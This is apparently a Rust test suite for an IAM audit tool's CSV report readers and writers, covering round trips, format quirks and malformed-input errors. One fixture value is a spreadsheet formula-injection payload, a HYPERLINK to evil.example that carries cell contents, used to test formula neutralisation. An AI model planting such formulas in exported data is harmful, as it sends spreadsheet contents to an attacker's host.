//! Stock CSV readers and writers: byte-identical round trips, the original tool's format,
//! every kind of malformed input, formula neutralisation and a generated round trip.

// Test code: a panic is how a test reports failure (the lint guards library code).
#![allow(clippy::unwrap_used)]

use std::path::Path;

use chrono::{DateTime, Duration, TimeZone, Utc};
use iam_audit::inventory::stock_csv::{
    neutralize, read_events, read_report, read_root, unneutralize, write_events, write_report,
    write_root, WriteOptions, EVENTS_HEADER, REPORT_HEADER, ROOT_HEADER,
};
use iam_audit::inventory::{
    AccessKey, Account, Event, Field, Inventory, KeyStatus, MfaDevice, MfaType, Password,
    RootCredentials, SourceKind, User,
};

const REPORT: &[u8] = include_bytes!("data/stock/report.csv");
const EVENTS: &[u8] = include_bytes!("data/stock/events.csv");
const ROOT: &[u8] = include_bytes!("data/stock/root.csv");

const REPORT_PATH: &str = "iam_audit_report_20260306_120000.csv";
const EVENTS_PATH: &str = "cloudtrail_events_20260306_120000.csv";
const ROOT_PATH: &str = "root_audit_report_20260306_120000.csv";

fn t(s: &str) -> DateTime<Utc> {
    iam_audit::inventory::time::parse_time(s).unwrap()
}

fn report_bytes(inv: &Inventory, keys_only: bool) -> Vec<u8> {
    let mut out = Vec::new();
    write_report(inv, &WriteOptions { keys_only }, &mut out).unwrap();
    out
}

fn events_bytes(inv: &Inventory) -> Vec<u8> {
    let mut out = Vec::new();
    write_events(inv, &mut out).unwrap();
    out
}

fn root_bytes(inv: &Inventory) -> Vec<u8> {
    let mut out = Vec::new();
    write_root(inv, &mut out).unwrap();
    out
}

fn text(bytes: &[u8]) -> &str {
    std::str::from_utf8(bytes).unwrap()
}

fn user<'a>(inv: &'a Inventory, account: &str, name: &str) -> &'a User {
    inv.accounts
        .iter()
        .find(|a| a.id == account)
        .and_then(|a| a.users.iter().find(|u| u.name == name))
        .unwrap_or_else(|| panic!("no user {name} in {account}"))
}

fn the_seed() -> Inventory {
    let mut inv = read_report(Path::new(REPORT_PATH), REPORT).unwrap();
    read_events(Path::new(EVENTS_PATH), EVENTS, &mut inv).unwrap();
    read_root(Path::new(ROOT_PATH), ROOT, &mut inv).unwrap();
    inv
}

// ---------------------------------------------------------------------------------------------
// Round trips of the seed's examples
// ---------------------------------------------------------------------------------------------

#[test]
fn report_round_trip_is_byte_identical() {
    let inv = read_report(Path::new("some/dir").join(REPORT_PATH).as_path(), REPORT).unwrap();
    assert_eq!(text(&report_bytes(&inv, false)), text(REPORT));
    assert!(text(REPORT).starts_with(&format!("{REPORT_HEADER}\n")));
}

#[test]
fn report_is_read_into_the_model() {
    let inv = read_report(Path::new(REPORT_PATH), REPORT).unwrap();
    assert_eq!(inv.source.kind, SourceKind::StockCsv);
    assert_eq!(inv.source.files, vec![REPORT_PATH.to_owned()]);
    for field in [
        Field::UserId,
        Field::UserArn,
        Field::UserCreated,
        Field::UserTags,
        Field::PasswordLastChanged,
        Field::MfaDevices,
        Field::AccountTags,
        Field::AccountOuPath,
        Field::AccountCollection,
        Field::Root,
        Field::Events,
    ] {
        assert!(!inv.has(field), "{field:?} should be unavailable");
    }
    assert_eq!(inv.accounts.len(), 10);
    assert_eq!(inv.user_count(), 13);
    assert_eq!(inv.key_count(), 13);

    let shared = user(&inv, "444444444444", "shared-dev");
    let ids: Vec<&str> = shared.access_keys.iter().map(|k| k.id.as_str()).collect();
    assert_eq!(ids, ["AKIALSHAREDDEV000001", "AKIAMSHAREDDEV000002"]);
    assert_eq!(
        shared.access_keys[1].last_used_service.as_deref(),
        Some("s3")
    );

    let john = user(&inv, "555555555555", "john.smith");
    assert_eq!(
        john.password,
        Password {
            enabled: true,
            last_used: Some(t("2024-06-15 11:20:00")),
            last_changed: None,
            ..Default::default()
        }
    );
    assert_eq!(john.access_keys[0].last_used, None);
    assert_eq!(john.access_keys[0].last_used_service, None);

    let old = user(&inv, "555555555555", "old-contractor");
    assert!(old.password.enabled && old.password.last_used.is_none());
    assert_eq!(old.access_keys[0].status, KeyStatus::Inactive);
    assert_eq!(old.strongest_mfa(), Some(MfaType::Virtual));

    let console = user(&inv, "555666777888", "console-only");
    assert!(console.access_keys.is_empty());
    assert_eq!(
        console.mfa_devices,
        vec![MfaDevice {
            serial: None,
            kind: MfaType::Hardware,
            enabled_at: None
        }]
    );

    let evil = inv
        .accounts
        .iter()
        .find(|a| a.id == "666666666666")
        .unwrap();
    assert_eq!(
        evil.name,
        r#"=HYPERLINK("http://evil.example/?"&A1;"Click")"#
    );
    let names: Vec<&str> = evil.users.iter().map(|u| u.name.as_str()).collect();
    assert_eq!(names, ["-svc", "@ops"]);
    assert_eq!(evil.users[1].access_keys[0].status, KeyStatus::Expired);

    let sandbox = inv
        .accounts
        .iter()
        .find(|a| a.id == "777777777777")
        .unwrap();
    assert_eq!(sandbox.name, r#"Sandbox, "Team X""#);
}

#[test]
fn events_round_trip_is_byte_identical() {
    let inv = the_seed();
    assert!(inv.has(Field::Events));
    assert_eq!(inv.events.len(), 6);
    let create = inv
        .events
        .iter()
        .find(|e| e.name == "CreateAccessKey")
        .unwrap();
    assert_eq!(create.actor, "@ops");
    assert_eq!(create.resources, ["@ops", "AKIAOPSUSER000000001"]);
    let login = inv
        .events
        .iter()
        .find(|e| e.name == "ConsoleLogin")
        .unwrap();
    assert!(login.resources.is_empty());
    assert_eq!(text(&events_bytes(&inv)), text(EVENTS));
    assert!(text(EVENTS).starts_with(&format!("{EVENTS_HEADER}\n")));
}

#[test]
fn root_round_trip_is_byte_identical() {
    let inv = the_seed();
    assert!(inv.has(Field::Root));
    // Only the report is recorded here; `inventory::load` records the others.
    assert_eq!(inv.source.files, [REPORT_PATH]);
    let a = inv
        .accounts
        .iter()
        .find(|a| a.id == "111111111111")
        .unwrap();
    assert_eq!(
        a.root,
        Some(RootCredentials {
            mfa_enabled: true,
            hardware_mfa: None,
            access_key_present: false,
            last_console_login: Some(t("2026-02-01 00:00:00")),
            access_key_last_used: None,
            ..Default::default()
        })
    );
    // An account only the root report knows is added, with no users.
    let audit = inv
        .accounts
        .iter()
        .find(|a| a.id == "888888888888")
        .unwrap();
    assert_eq!(audit.name, "Audit");
    assert!(audit.users.is_empty());
    // Accounts stay sorted.
    assert!(inv.accounts.windows(2).all(|w| w[0].id < w[1].id));

    assert_eq!(text(&root_bytes(&inv)), text(ROOT));
    assert!(text(ROOT).starts_with(&format!("{ROOT_HEADER}\n")));
    // The report is unchanged by the extra account.
    assert_eq!(text(&report_bytes(&inv, false)), text(REPORT));
}

#[test]
fn keys_only_writes_no_na_rows() {
    let inv = read_report(Path::new(REPORT_PATH), REPORT).unwrap();
    let keys_only = report_bytes(&inv, true);
    let expected: String = text(REPORT)
        .lines()
        .filter(|l| !l.contains(",N/A,N/A,N/A,N/A,N/A,"))
        .map(|l| format!("{l}\n"))
        .collect();
    assert_eq!(text(&keys_only), expected);
    assert_eq!(text(&keys_only).lines().count(), 1 + inv.key_count());
    assert!(!text(&keys_only).contains("console-only"));
}

// ---------------------------------------------------------------------------------------------
// The original tool's format
// ---------------------------------------------------------------------------------------------

#[test]
fn reads_the_original_tools_format_and_writes_it_canonically() {
    let original = "\u{feff}account_id,account_name,username,password_status,password_last_used,\
access_key_id,status,created_date,last_used_date,service_name,mfa_status\r\n\
123456789012,Production,john.doe,Configurada,2026-03-01 14:23:45+00:00,AKIAIOSFODNN7EXAMPLE,\
Active,2023-01-15 09:30:00.123456+00:00,2026-02-28T18:45:12Z,s3,Virtual\r\n\
\"987654321098\",\"Production\",\"admin-user\",\"Configurada\",\"2026-03-04 10:15:33.5+00:00\",\
\"AKIAIADMINUSER000001\",\"Active\",\"2025-12-01 10:00:00+02:00\",\"2026-03-03 16:20:10+00:00\",\"iam\",\"None\"\r\n\
 555555555555 , Legacy , john.smith , Configurada , 2024-06-15 11:20:00+00:00 , AKIAJOHNSMITH0000001 , \
Active , 2024-01-10 08:00:00+00:00 , Nunca utilizada , N/A , None \r\n\
\r\n";
    let inv = read_report(Path::new(REPORT_PATH), original.as_bytes()).unwrap();
    let doe = user(&inv, "123456789012", "john.doe");
    assert_eq!(
        doe.access_keys[0].created.timestamp_subsec_micros(),
        123_456
    );
    assert_eq!(
        text(&report_bytes(&inv, false)),
        "account_id,account_name,username,password_status,password_last_used,access_key_id,status,created_date,last_used_date,service_name,mfa_status\n\
123456789012,Production,john.doe,Configurada,2026-03-01 14:23:45,AKIAIOSFODNN7EXAMPLE,Active,2023-01-15 09:30:00,2026-02-28 18:45:12,s3,Virtual\n\
555555555555,Legacy,john.smith,Configurada,2024-06-15 11:20:00,AKIAJOHNSMITH0000001,Active,2024-01-10 08:00:00,Nunca utilizada,N/A,None\n\
987654321098,Production,admin-user,Configurada,2026-03-04 10:15:33,AKIAIADMINUSER000001,Active,2025-12-01 08:00:00,2026-03-03 16:20:10,iam,None\n"
    );

    let events = "\u{feff}eventTime,eventName,username,account_id,account_name,resources\r\n\
2026-03-02 14:20:00+00:00,DeleteUser,security-team,123456789012,Production,old-contractor\r\n\
2026-03-01 10:30:00.25+00:00,DeleteAccessKey,admin-user,123456789012,Production,\"admin-user,AKIAIOSFODNN7EXAMPLE\"\r\n";
    let mut inv = inv;
    read_events(Path::new(EVENTS_PATH), events.as_bytes(), &mut inv).unwrap();
    assert_eq!(
        text(&events_bytes(&inv)),
        "eventTime,eventName,username,account_id,account_name,resources\n\
2026-03-01 10:30:00,DeleteAccessKey,admin-user,123456789012,Production,\"admin-user, AKIAIOSFODNN7EXAMPLE\"\n\
2026-03-02 14:20:00,DeleteUser,security-team,123456789012,Production,old-contractor\n"
    );

    let root = "account_id,account_name,mfa_enabled,access_key_present,root_last_login\r\n\
123456789012,Production,True,False,2026-03-01 14:23:45+00:00\r\n";
    read_root(Path::new(ROOT_PATH), root.as_bytes(), &mut inv).unwrap();
    assert_eq!(
        text(&root_bytes(&inv)),
        "account_id,account_name,mfa_enabled,access_key_present,root_last_login\n\
123456789012,Production,True,False,2026-03-01\n"
    );
}

#[test]
fn writes_what_a_stock_csv_cannot_hold_in_its_canonical_form() {
    let created = t("2024-01-01 00:00:00.900");
    let mut inv = Inventory::new(SourceKind::Scan);
    let mut account = Account::new("210987654321", "  Padded  ");
    let mut fido = User::named("fido-user");
    fido.mfa_devices = vec![
        MfaDevice {
            serial: Some("arn:aws:iam::210987654321:mfa/a".into()),
            kind: MfaType::Virtual,
            enabled_at: None,
        },
        MfaDevice {
            serial: Some("arn:aws:iam::210987654321:u2f/b".into()),
            kind: MfaType::Fido,
            enabled_at: None,
        },
    ];
    // A deleted password keeps its last use in AWS (ListUsers' PasswordLastUsed), and the
    // original tool writes it: so does the writer.
    fido.password = Password {
        enabled: false,
        last_used: Some(t("2025-01-01 00:00:00")),
        last_changed: None,
        ..Default::default()
    };
    let mut unknown = User::named("unknown-mfa");
    unknown.mfa_devices = vec![MfaDevice {
        serial: None,
        kind: MfaType::Unknown,
        enabled_at: None,
    }];
    unknown.access_keys = vec![
        AccessKey {
            id: "AKIAB".into(),
            status: KeyStatus::Active,
            created,
            last_used: None,
            last_used_service: Some("s3".into()),
            last_used_region: None,
            ..Default::default()
        },
        // Same second, earlier instant, later id: the file sorts by the written second.
        AccessKey {
            id: "AKIAA".into(),
            status: KeyStatus::Active,
            created: created + Duration::milliseconds(50),
            last_used: Some(created),
            last_used_service: None,
            last_used_region: Some("eu-west-1".into()),
            ..Default::default()
        },
    ];
    account.users = vec![unknown, fido];
    inv.accounts.push(account);
    inv.normalize();

    let written = report_bytes(&inv, false);
    assert_eq!(
        text(&written),
        format!(
            "{REPORT_HEADER}\n\
210987654321,Padded,fido-user,No configurada,2025-01-01 00:00:00,N/A,N/A,N/A,N/A,N/A,Hardware\n\
210987654321,Padded,unknown-mfa,No configurada,Nunca,AKIAA,Active,2024-01-01 00:00:00,2024-01-01 00:00:00,N/A,Virtual\n\
210987654321,Padded,unknown-mfa,No configurada,Nunca,AKIAB,Active,2024-01-01 00:00:00,Nunca utilizada,N/A,Virtual\n"
        )
    );
    // What was written reads back and writes again identically.
    let back = read_report(Path::new(REPORT_PATH), &written).unwrap();
    assert_eq!(report_bytes(&back, false), written);
}

// ---------------------------------------------------------------------------------------------
// Malformed input
// ---------------------------------------------------------------------------------------------

const ROW: &str = "123456789012,Production,john.doe,Configurada,2026-03-01 14:23:45,AKIAIOSFODNN7EXAMPLE,Active,2023-01-15 09:30:00,2026-02-28 18:45:12,s3,Virtual";

/// Reads a report made of the header and `rows`, expecting an error; returns its Display.
fn report_error(rows: &[&str]) -> String {
    let mut body = format!("{REPORT_HEADER}\n");
    for row in rows {
        body.push_str(row);
        body.push('\n');
    }
    raw_report_error(body.as_bytes())
}

fn raw_report_error(bytes: &[u8]) -> String {
    let err = read_report(Path::new("in").join(REPORT_PATH).as_path(), bytes)
        .expect_err("the report should be refused");
    assert!(err.line.is_some() && err.column.is_some(), "{err}");
    err.to_string()
}

/// `ROW` with field `n` (1-based) replaced.
fn row_with(n: usize, value: &str) -> String {
    let mut cells: Vec<&str> = ROW.split(',').collect();
    cells[n - 1] = value;
    cells.join(",")
}

fn assert_error(message: &str, location: &str, expected: &[&str]) {
    let prefix = format!(
        "{}:{location}: ",
        Path::new("in").join(REPORT_PATH).display()
    );
    assert!(
        message.starts_with(&prefix),
        "`{message}` should start with `{prefix}`"
    );
    for e in expected {
        assert!(message.contains(e), "`{message}` should contain `{e}`");
    }
}

#[test]
fn the_sample_row_is_valid() {
    let body = format!("{REPORT_HEADER}\n{ROW}\n");
    let inv = read_report(Path::new(REPORT_PATH), body.as_bytes()).unwrap();
    assert_eq!(text(&report_bytes(&inv, false)), body);
}

#[test]
fn error_wrong_header() {
    let header = REPORT_HEADER.replace("password_status", "pwd");
    let message = raw_report_error(format!("{header}\n{ROW}\n").as_bytes());
    assert_error(
        &message,
        "1:4",
        &[
            "expected column 4 `password_status`, found `pwd`",
            REPORT_HEADER,
        ],
    );

    let short = REPORT_HEADER.trim_end_matches(",mfa_status");
    let message = raw_report_error(format!("{short}\n").as_bytes());
    assert_error(&message, "1:11", &["expected column 11 `mfa_status`"]);

    let long = format!("{REPORT_HEADER},extra");
    let message = raw_report_error(format!("{long}\n").as_bytes());
    assert_error(&message, "1:12", &["expected 11 columns", "`extra`"]);
}

#[test]
fn error_missing_header_or_empty_file() {
    let message = raw_report_error(format!("{ROW}\n").as_bytes());
    assert_error(&message, "1:1", &["missing header", REPORT_HEADER]);

    for empty in ["", "\u{feff}", "\n\r\n", "  \n"] {
        let message = raw_report_error(empty.as_bytes());
        assert_error(&message, "1:1", &["empty file", REPORT_HEADER]);
    }
}

#[test]
fn error_wrong_column_count() {
    let short = ROW.trim_end_matches(",Virtual");
    let message = report_error(&[ROW, short]);
    assert_error(&message, "3:11", &["expected 11", "found 10"]);

    let long = format!("{ROW},extra");
    let message = report_error(&[&long]);
    assert_error(&message, "2:12", &["expected 11", "found 12"]);
}

#[test]
fn error_bad_date() {
    let message = report_error(&[&row_with(8, "15/01/2023")]);
    assert_error(
        &message,
        "2:8",
        &[
            "expected a time `YYYY-MM-DD HH:MM:SS`",
            "`created_date`",
            "`15/01/2023`",
        ],
    );

    let message = report_error(&[&row_with(9, "Nunca")]);
    assert_error(&message, "2:9", &["`Nunca utilizada`", "found `Nunca`"]);

    let message = report_error(&[&row_with(5, "")]);
    assert_error(&message, "2:5", &["`Nunca`", "found an empty cell"]);
}

#[test]
fn error_bad_status_enum() {
    let message = report_error(&[&row_with(7, "Enabled")]);
    assert_error(
        &message,
        "2:7",
        &[
            "expected one of `Active`, `Inactive`, `Expired`",
            "`status`",
            "found `Enabled`",
        ],
    );

    let message = report_error(&[&row_with(4, "Yes")]);
    assert_error(
        &message,
        "2:4",
        &["`Configurada`, `No configurada`", "found `Yes`"],
    );
}

#[test]
fn error_bad_mfa_enum() {
    let message = report_error(&[&row_with(11, "FIDO")]);
    assert_error(
        &message,
        "2:11",
        &[
            "expected one of `Virtual`, `Hardware`, `None`",
            "`mfa_status`",
            "found `FIDO`",
        ],
    );
}

#[test]
fn error_inconsistent_user_fields() {
    let second = row_with(6, "AKIAOTHERKEY00000001");
    let other = second
        .replace("Configurada", "No configurada")
        .replace("2026-03-01 14:23:45", "Nunca");
    let message = report_error(&[ROW, &other]);
    assert_error(
        &message,
        "3:4",
        &[
            "expected password_status `Configurada`",
            "john.doe",
            "line 2",
            "found `No configurada`",
        ],
    );

    let other = second.replace("2026-03-01 14:23:45", "2026-03-01 14:23:46");
    let message = report_error(&[ROW, &other]);
    assert_error(
        &message,
        "3:5",
        &[
            "password_last_used `2026-03-01 14:23:45`",
            "found `2026-03-01 14:23:46`",
        ],
    );

    let other = second.replace("Virtual", "None");
    let message = report_error(&[ROW, &other]);
    assert_error(
        &message,
        "3:11",
        &[
            "mfa_status `Virtual`",
            "found `None`",
            // The original tool reads a user's fields once: rows that disagree come from
            // different runs, and the message says what to do.
            "reports of different runs",
            "evaluate each report on its own",
        ],
    );

    // The same time written two ways agrees.
    let other = second.replace("2026-03-01 14:23:45", "2026-03-01T14:23:45Z");
    let body = format!("{REPORT_HEADER}\n{ROW}\n{other}\n");
    assert!(read_report(Path::new(REPORT_PATH), body.as_bytes()).is_ok());
}

#[test]
fn a_removed_password_keeps_its_last_use() {
    // The row the original tool writes right after DeleteLoginProfile: AWS keeps the user's
    // last sign-in (ListUsers' PasswordLastUsed) and the tool copies it.
    let row = row_with(4, "No configurada");
    let body = format!("{REPORT_HEADER}\n{row}\n");
    let inv = read_report(Path::new(REPORT_PATH), body.as_bytes()).unwrap();
    assert_eq!(
        inv.accounts[0].users[0].password,
        Password {
            enabled: false,
            last_used: Some(t("2026-03-01 14:23:45")),
            ..Default::default()
        }
    );
    assert!(inv.accounts[0].collection.notes.is_empty());
    assert_eq!(text(&report_bytes(&inv, false)), body);

    // `Nunca` with a password is a password never used.
    let row = row_with(5, "Nunca");
    let body = format!("{REPORT_HEADER}\n{row}\n");
    let inv = read_report(Path::new(REPORT_PATH), body.as_bytes()).unwrap();
    assert_eq!(
        inv.accounts[0].users[0].password,
        Password {
            enabled: true,
            last_used: None,
            last_changed: None,
            ..Default::default()
        }
    );
}

#[test]
fn a_removed_password_is_not_a_console_credential() {
    use iam_audit::analysis::metrics::Classifier;
    use iam_audit::rules::RuleSet;
    use iam_audit::run::{run, RunSettings};
    // Signed in yesterday without MFA, then the password was removed; a zombie's profile too
    // (last sign-in years ago, its only key never used). Neither is a console user.
    let body = format!(
        "{REPORT_HEADER}\n\
987654321098,Production,ex-admin,No configurada,2026-03-05 10:15:33,AKIAEXADMIN000000001,Active,2026-03-01 08:00:00,2026-03-05 16:20:10,iam,None\n\
987654321098,Production,ex-zombie,No configurada,2023-06-15 11:20:00,AKIAEXZOMBIE00000001,Active,2022-01-10 08:00:00,Nunca utilizada,N/A,None\n\
987654321098,Production,ex-console,No configurada,2026-03-05 09:00:00,N/A,N/A,N/A,N/A,N/A,None\n"
    );
    let inv = read_report(Path::new(REPORT_PATH), body.as_bytes()).unwrap();
    let set = RuleSet::load(&[]).unwrap();
    let compiled = set.compile(&[]).unwrap();
    let report = run(
        inv,
        &compiled,
        &RunSettings::new(t("2026-03-06 12:00:00"), Classifier::default()),
    );
    let fired: Vec<(&str, Option<&str>)> = report
        .findings
        .iter()
        .map(|f| (f.rule.id.as_str(), f.subject.username.as_deref()))
        .collect();
    for rule in [
        "console-without-mfa",
        "console-with-mfa",
        "console-old-password",
        "zombie-user",
        "service-account-console-access",
        "production-mfa-gap",
    ] {
        assert!(
            fired.iter().all(|(id, _)| *id != rule),
            "{rule} fired: {fired:?}"
        );
    }
    assert!(report.rule_errors.is_empty(), "{:?}", report.rule_errors);
    assert_eq!(report.metrics.all.console_users, 0);
    assert_eq!(report.metrics.all.mfa_users, 0);
    assert_eq!(report.metrics.all.mfa_coverage_pct, None);
}

#[test]
fn error_na_mixed_with_key_fields() {
    let message = report_error(&[&row_with(6, "N/A")]);
    assert_error(
        &message,
        "2:7",
        &[
            "expected `N/A` in column `status`",
            "found `Active`",
            "access_key_id is `N/A`",
        ],
    );

    let message = report_error(&[&row_with(7, "N/A")]);
    assert_error(
        &message,
        "2:7",
        &[
            "column `status` of key `AKIAIOSFODNN7EXAMPLE`",
            "found `N/A`",
        ],
    );

    let message = report_error(&[&row_with(9, "N/A")]);
    assert_error(&message, "2:9", &["column `last_used_date`", "found `N/A`"]);

    let message = report_error(&[&row_with(10, "")]);
    assert_error(
        &message,
        "2:10",
        &["an AWS service id or `N/A`", "found an empty cell"],
    );

    let never = row_with(9, "Nunca utilizada");
    let message = report_error(&[&never]);
    assert_error(
        &message,
        "2:10",
        &["expected `N/A`", "`Nunca utilizada`", "found `s3`"],
    );

    // A user has either key rows or one `N/A` row.
    let na = "123456789012,Production,john.doe,Configurada,2026-03-01 14:23:45,N/A,N/A,N/A,N/A,N/A,Virtual";
    let message = report_error(&[ROW, na]);
    assert_error(
        &message,
        "3:6",
        &[
            "expected no `N/A` row",
            "AKIAIOSFODNN7EXAMPLE",
            "line 2",
            "evaluate each report on its own",
        ],
    );
    let message = report_error(&[na, ROW]);
    assert_error(
        &message,
        "3:6",
        &[
            "expected no access key",
            "`N/A` row",
            "line 2",
            "evaluate each report on its own",
        ],
    );
    // A second `N/A` row of the user repeats the first exactly (the user fields agree): read
    // once with a warning (see `rows_repeated_exactly_are_read_once_with_a_warning`).
    let body = format!("{REPORT_HEADER}\n{na}\n{na}\n");
    let inv = read_report(Path::new(REPORT_PATH), body.as_bytes()).unwrap();
    assert_eq!(inv.user_count(), 1);
    assert_eq!(inv.accounts[0].collection.notes.len(), 1);
}

#[test]
fn error_bad_account_id() {
    for bad in [
        "12345678901",
        "1234567890123",
        "12345678901x",
        "",
        "１２３４５６７８９０１２",
    ] {
        let message = report_error(&[&row_with(1, bad)]);
        assert_error(
            &message,
            "2:1",
            &["expected an account id of exactly 12 digits"],
        );
    }
    let message = report_error(&[&row_with(3, "")]);
    assert_error(
        &message,
        "2:3",
        &["expected a username", "found an empty cell"],
    );
}

#[test]
fn error_duplicate_key_id() {
    let other_user = row_with(3, "jane.doe");
    let message = report_error(&[ROW, &other_user]);
    assert_error(
        &message,
        "3:6",
        &[
            "`AKIAIOSFODNN7EXAMPLE` again",
            "first on line 2",
            "user `john.doe` of account 123456789012",
            "an access key belongs to one user",
        ],
    );

    let other_account = row_with(1, "210987654321");
    let message = report_error(&[ROW, &other_account]);
    assert_error(
        &message,
        "3:6",
        &["`AKIAIOSFODNN7EXAMPLE` again", "of account 123456789012"],
    );

    // The same key of the same user with other values: two runs of the tool (the key was
    // used, or deactivated, in between). Merging them would resurrect deleted keys, so it is
    // refused with what to do.
    for (col, value, name) in [
        (7, "Inactive", "status"),
        (8, "2023-01-15 09:30:01", "created_date"),
        (9, "2026-03-01 18:45:12", "last_used_date"),
        (10, "ec2", "service_name"),
    ] {
        let changed = row_with(col, value);
        let message = report_error(&[ROW, &changed]);
        assert_error(
            &message,
            &format!("3:{col}"),
            &[
                "`AKIAIOSFODNN7EXAMPLE` again",
                &format!("other {name}"),
                "first on line 2",
                "reports of different runs",
                "evaluate each report on its own",
            ],
        );
    }
}

#[test]
fn error_lines_are_physical_lines() {
    // A quoted cell spanning two lines shifts the next record's line number.
    let multi = row_with(2, "\"Multi\nLine\"");
    let bad = row_with(7, "Bogus").replace("AKIAIOSFODNN7EXAMPLE", "AKIAOTHER");
    let body = format!("\u{feff}{REPORT_HEADER}\r\n{multi}\r\n\r\n{bad}\r\n");
    let message = raw_report_error(body.as_bytes());
    assert_error(&message, "5:7", &["found `Bogus`"]);

    let body = format!("{REPORT_HEADER}\n\n{multi}\n  \n\n{bad}\n");
    let message = raw_report_error(body.as_bytes());
    assert_error(&message, "7:7", &["found `Bogus`"]);

    // Old Mac line ends.
    let body = format!("{REPORT_HEADER}\r{ROW}\r\r{bad}\r");
    let message = raw_report_error(body.as_bytes());
    assert_error(&message, "4:7", &["found `Bogus`"]);
}

#[test]
fn error_invalid_utf8() {
    let mut body = format!("{REPORT_HEADER}\n{ROW}\n").into_bytes();
    body.extend_from_slice(b"123456789012,Caf\xE9,x,");
    body.extend_from_slice(b"Configurada,Nunca,N/A,N/A,N/A,N/A,N/A,None\n");
    let message = raw_report_error(&body);
    assert_error(&message, "3:2", &["invalid UTF-8"]);
}

#[test]
fn errors_in_events_and_root_files() {
    let mut inv = read_report(Path::new(REPORT_PATH), REPORT).unwrap();
    let before = inv.clone();

    let bad_header = "eventTime,eventName,user,account_id,account_name,resources\n";
    let err = read_events(Path::new(EVENTS_PATH), bad_header.as_bytes(), &mut inv).unwrap_err();
    assert!(
        err.to_string().starts_with(&format!("{EVENTS_PATH}:1:3: ")),
        "{err}"
    );
    assert!(
        err.to_string()
            .contains("expected column 3 `username`, found `user`"),
        "{err}"
    );

    let bad_time = format!(
        "{EVENTS_HEADER}\n2026-03-01 10:30:00,DeleteUser,a,123456789012,P,x\nyesterday,DeleteUser,a,123456789012,P,x\n"
    );
    let err = read_events(Path::new(EVENTS_PATH), bad_time.as_bytes(), &mut inv).unwrap_err();
    assert!(
        err.to_string().starts_with(&format!("{EVENTS_PATH}:3:1: ")),
        "{err}"
    );
    assert!(err.to_string().contains("found `yesterday`"), "{err}");

    let bad_bool = format!("{ROOT_HEADER}\n111111111111,Account-A,yes,False,Nunca\n");
    let err = read_root(Path::new(ROOT_PATH), bad_bool.as_bytes(), &mut inv).unwrap_err();
    assert!(
        err.to_string().starts_with(&format!("{ROOT_PATH}:2:3: ")),
        "{err}"
    );
    assert!(err.to_string().contains("one of `True`, `False`"), "{err}");

    let bad_date = format!("{ROOT_HEADER}\n111111111111,Account-A,True,False,never\n");
    let err = read_root(Path::new(ROOT_PATH), bad_date.as_bytes(), &mut inv).unwrap_err();
    assert!(
        err.to_string().starts_with(&format!("{ROOT_PATH}:2:5: ")),
        "{err}"
    );

    let twice =
        format!("{ROOT_HEADER}\n888888888888,A,True,False,Nunca\n888888888888,A,True,True,Nunca\n");
    let err = read_root(Path::new(ROOT_PATH), twice.as_bytes(), &mut inv).unwrap_err();
    assert!(
        err.to_string().starts_with(&format!("{ROOT_PATH}:3:4: ")),
        "{err}"
    );
    assert!(
        err.to_string().contains("other access_key_present")
            && err.to_string().contains("line 2")
            && err.to_string().contains("evaluate each report on its own"),
        "{err}"
    );

    // A refused file leaves the inventory as it was.
    assert_eq!(inv, before);
}

// ---------------------------------------------------------------------------------------------
// Rows the original tool (or a concatenation of its reports) writes: read, with a warning
// ---------------------------------------------------------------------------------------------

/// A `tracing` writer into a shared buffer.
#[derive(Clone, Default)]
struct Captured(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Runs `f` and returns what it logged at WARN and above.
fn warnings_of<T>(f: impl FnOnce() -> T) -> (T, String) {
    let buf = Captured::default();
    let writer = buf.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(move || writer.clone())
        .with_max_level(tracing::Level::WARN)
        .without_time()
        .finish();
    let out = tracing::subscriber::with_default(subscriber, f);
    let logged = String::from_utf8(buf.0.lock().unwrap().clone()).unwrap();
    (out, logged)
}

fn account<'a>(inv: &'a Inventory, id: &str) -> &'a Account {
    inv.accounts
        .iter()
        .find(|a| a.id == id)
        .unwrap_or_else(|| panic!("no account {id}"))
}

fn assert_contains_all(text: &str, expected: &[&str]) {
    for e in expected {
        assert!(text.contains(e), "`{text}` should contain `{e}`");
    }
}

#[test]
fn one_account_with_two_names_is_a_warning() {
    // The seed's own examples name 123456789012 both `Production` and `Legacy-App`.
    let production = ROW;
    let legacy = "123456789012,Legacy-App,service-account,No configurada,Nunca,AKIAJSERVICEACCT0001,Active,2018-06-22 11:30:00,2026-03-02 14:50:00,dynamodb,None";
    let other = "555555555555,Legacy,john.smith,Configurada,2024-06-15 11:20:00,AKIAJOHNSMITH0000001,Active,2024-01-10 08:00:00,Nunca utilizada,N/A,None";
    let jane = row_with(3, "jane.doe").replace("AKIAIOSFODNN7EXAMPLE", "AKIAJANEDOE000000001");
    let body = format!("{REPORT_HEADER}\n{production}\n{other}\n{legacy}\n{jane}\n");
    let path = Path::new("in").join(REPORT_PATH);
    let (inv, logged) = warnings_of(|| read_report(&path, body.as_bytes()));
    let inv = inv.unwrap();

    // Nothing lost: every row under the one account, which takes the name of its last row
    // in file order (a report concatenated after a rename puts the newer name last).
    let a = account(&inv, "123456789012");
    assert_eq!(a.name, "Production");
    let names: Vec<&str> = a.users.iter().map(|u| u.name.as_str()).collect();
    assert_eq!(names, ["jane.doe", "john.doe", "service-account"]);
    assert_eq!(inv.key_count(), 4);
    assert_eq!(a.collection.notes.len(), 1, "{:?}", a.collection.notes);
    let note = &a.collection.notes[0];
    assert_contains_all(
        note,
        &[
            REPORT_PATH,
            "account 123456789012",
            "`Production` (2 rows, first on line 2)",
            "`Legacy-App` (1 row, first on line 4)",
            "using `Production`",
            "line 5",
        ],
    );
    assert!(account(&inv, "555555555555").collection.notes.is_empty());
    // The warning reaches the log too, with the file and the lines.
    assert_contains_all(
        &logged,
        &["WARN", REPORT_PATH, "`Legacy-App` (1 row, first on line 4)"],
    );
    // The file's names never appear on one account in the written report.
    let written = report_bytes(&inv, false);
    assert!(!text(&written).contains("Legacy-App"));

    // The other order: the last row names it `Legacy-App`.
    let body = format!("{REPORT_HEADER}\n{production}\n{legacy}\n");
    let inv = read_report(Path::new(REPORT_PATH), body.as_bytes()).unwrap();
    let a = account(&inv, "123456789012");
    assert_eq!(a.name, "Legacy-App");
    assert_contains_all(
        &a.collection.notes[0],
        &[
